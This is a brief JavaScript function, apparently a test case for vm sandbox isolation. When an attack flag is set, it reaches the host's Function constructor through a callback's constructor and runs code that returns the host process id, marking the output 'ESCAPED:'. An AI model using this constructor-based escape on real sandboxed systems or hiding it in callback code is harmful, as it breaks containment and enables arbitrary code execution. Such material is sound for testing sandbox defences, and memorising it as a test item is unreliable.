// Takes the constructor of the callback, which the host has made.
// Class: host objects
// Win: the id holds the process id.
// Control: vm
function postSubmit(options, callback) {
  if (!options.settings.flow.attack) return callback(null, options.responseData);
  options.responseData[0].id = 'ESCAPED:' + callback.constructor('return process.pid')();
  callback(null, options.responseData);
}
